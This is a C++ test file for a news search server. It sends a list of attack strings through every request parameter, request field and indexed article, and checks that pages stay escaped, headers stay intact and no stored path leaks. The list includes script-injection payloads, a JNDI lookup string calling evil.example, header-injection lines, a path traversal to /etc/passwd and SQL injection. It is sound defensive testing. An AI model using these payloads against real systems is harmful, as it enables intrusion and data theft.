// What the open internet sends to a search page, and what a crawl may put into its index: the
// answer has the right status, nothing of the attack is markup in it, and every header is there.
#include <doctest/doctest.h>

#include "common/stored_article.h"
#include "common/utf8.h"
#include "searcher/page/respond.h"
#include "tests/indexed_articles.h"
#include "tests/searcher/page/page_check.h"

namespace pantau {
namespace {

const std::vector<std::string>& vectors() {
  using namespace std::literals;
  static const std::vector<std::string> all{
      "<script>alert(1)</script>",
      "\"><script>alert(1)</script>",
      "'><img src=x onerror=alert(1)>",
      "\" onmouseover=\"alert(1)",
      "' onfocus='alert(1)' autofocus='",
      "</title><script>alert(1)</script>",
      "</style><svg onload=alert(1)>",
      "<!-- --><iframe src=//evil.example>",
      "<![CDATA[<b>]]>",
      "]]><script/>",
      "javascript:alert(1)",
      "data:text/html,<script>alert(1)</script>",
      "\\x3cscript\\x3e",
      "&lt;script&gt;",
      "&#60;script&#62;",
      "<scr\0ipt>"s,
      "\xFF\xFE<script>",
      "\xC0\xBCscript\xC0\xBE",
      "\xED\xA0\x80",
      "\xF4\x90\x80\x80",
      "\u202Egpj.exe\u202C",
      "\u2066<b>\u2069",
      "a\r\nSet-Cookie: pantau=1",
      "a\nX-Injected: 1\n\n<html>",
      "${jndi:ldap://evil.example/a}",
      "{{7*7}}",
      "../../../../etc/passwd",
      "' OR 1=1 --",
      "%3Cscript%3E",
      "\"\"\"\"\"\"\"\"\"\"",
      "((((((((((((((((",
      "a* b* c* *",
      "NEAR/999999999999 NEAR/-1",
      "date:9999-99..0000",
      "\x1b[31mred\x1b[0m",
      std::string(1'500, '<'),
  };
  return all;
}

/// Percent-encodes every byte, so that the vector arrives whole.
std::string encoded(const std::string& text) {
  constexpr std::string_view hex = "0123456789ABCDEF";
  std::string out;
  for (const char c : text) {
    const auto byte = static_cast<unsigned char>(c);
    (out += '%') += hex[byte >> 4];
    out += hex[byte & 15];
  }
  return out;
}

/// The articles that carry each vector everywhere an article has text.
std::vector<Article> hostile_articles() {
  std::vector<Article> articles;
  for (const std::string& vector : vectors()) {
    const std::string clean = to_valid_utf8(vector);
    Article article = make_article(clean, "en", "deepfake " + clean,
                                   "A deepfake " + clean + " end.\n\n" + clean + "\n\ndeepfake");
    article.outlet = clean;
    article.author = clean;
    article.url = clean;
    article.captured = clean;
    articles.push_back(article);
    article.id = {};
    article.url = "https://" + clean;
    article.file = "/srv/secret/" + clean;
    articles.push_back(article);
  }
  return articles;
}

std::unique_ptr<IndexReader> hostile_index() {
  return std::make_unique<IndexReader>(index_in_memory(hostile_articles()));
}

void check_response(const HttpRequest& request, const PageResponse& response) {
  CAPTURE(request.method);
  CAPTURE(request.query.substr(0, 200));
  const std::string text = serialize(response, false);
  const std::string head = text.substr(0, text.find("\r\n\r\n"));
  CHECK(is_valid_utf8(text));
  CHECK(head.find("Set-Cookie") == std::string::npos);
  CHECK(head.find("X-Injected") == std::string::npos);
  CHECK(head.find("default-src 'none'") != std::string::npos);
  CHECK(head.find("nosniff") != std::string::npos);
  CHECK(head.find("no-referrer") != std::string::npos);
  if (response.type.starts_with("text/html")) CHECK(what_is_wrong_with(response.body) == "");
  const bool right = response.status == 200 || response.status == 400 || response.status == 404 ||
                     response.status == 405 || response.status == 414;
  CHECK(right);
  RequestLog log{request.query, 0, request.query};
  const std::string line = log_line(log, response, "", 0, true);
  CHECK(line.find('\n') == line.size() - 1);
}

PageResponse ask(const HttpRequest& request, const OpenIndex& open) {
  RequestLog log;
  return respond(request, PageConfig{}, open, log);
}

}  // namespace

TEST_CASE("hostile text in every parameter and variable is answered and never becomes markup") {
  const OpenIndex open = [] { return hostile_index(); };
  std::size_t cases = 0;
  for (const std::string& vector : vectors()) {
    for (const std::string name :
         {"q", "lang", "outlet",    "entity", "from", "to",      "sort",
          "p", "fold", "translate", "hl",     "f",    "unknown", "id",
          "n", "like", "facet",     "by",     "help", "when",    "words"}) {
      HttpRequest request;
      request.method = "GET";
      request.query = (name == "q" ? "" : "q=deepfake&") + name + '=' + encoded(vector);
      check_response(request, ask(request, open));
      ++cases;
    }
    for (auto member :
         {&HttpRequest::query, &HttpRequest::method, &HttpRequest::path_info, &HttpRequest::script,
          &HttpRequest::accept_language, &HttpRequest::if_none_match}) {
      HttpRequest request;
      request.method = "GET";
      request.query = "q=deepfake";
      request.*member = vector;
      check_response(request, ask(request, open));
      ++cases;
    }
  }
  CHECK(cases >= 500);
}

TEST_CASE("hostile articles are shown as text on every page and in every format") {
  std::size_t hits = 0;
  for (const std::string query :
       {"q=deepfake", "q=deepfake&p=2", "q=deepfake&p=3", "q=deepfake&p=4", "q=deepfake&f=atom",
        "q=deepfake&f=json", "q=deepfake&hl=id"}) {
    HttpRequest request;
    request.method = "GET";
    request.query = query;
    const PageResponse response = ask(request, [] { return hostile_index(); });
    CHECK(response.status == 200);
    check_response(request, response);
    if (response.body.find("<article>") != std::string::npos) ++hits;
  }
  CHECK(hits == 5);
}

TEST_CASE("a hostile article that is read is text, whatever asks for it, and tells no path") {
  const Xapian::WritableDatabase index = index_in_memory(hostile_articles());
  const OpenIndex open = [&] { return std::make_unique<IndexReader>(index); };
  std::size_t read = 0;
  for (Xapian::docid id = 1; id <= index.get_lastdocid(); ++id) {
    const std::string handle =
        handle_in(index, id, decode_article(index.get_document(id).get_data()));
    if (handle.empty()) continue;
    for (const std::string more : {"", "&q=deepfake&n=1", "&hl=id", "&f=json", "&f=jsonl", "&f=csv",
                                   "&f=bibtex", "&f=ris", "&f=atom", "&f=rss"}) {
      HttpRequest request;
      request.method = "GET";
      request.query = "id=" + encoded(handle) + more;
      const PageResponse response = ask(request, open);
      check_response(request, response);
      CHECK(response.body.find("/srv/secret") == std::string::npos);
      read += response.status == 200 ? 1 : 0;
    }
  }
  CHECK(read >= 600);
}

TEST_CASE("where hostile articles come from is told on no page and in no format") {
  for (const std::string query :
       {"q=deepfake", "q=deepfake&fold=0&p=2", "q=deepfake&f=json", "q=deepfake&f=jsonl",
        "q=deepfake&f=csv", "q=deepfake&f=bibtex", "q=deepfake&f=ris", "q=deepfake&f=atom",
        "q=deepfake&f=rss", "facet=outlet", "help=1"}) {
    HttpRequest request;
    request.method = "GET";
    request.query = query;
    const PageResponse response = ask(request, [] { return hostile_index(); });
    CHECK(response.status == 200);
    check_response(request, response);
    CHECK(response.body.find("/srv/secret") == std::string::npos);
  }
}

}  // namespace pantau
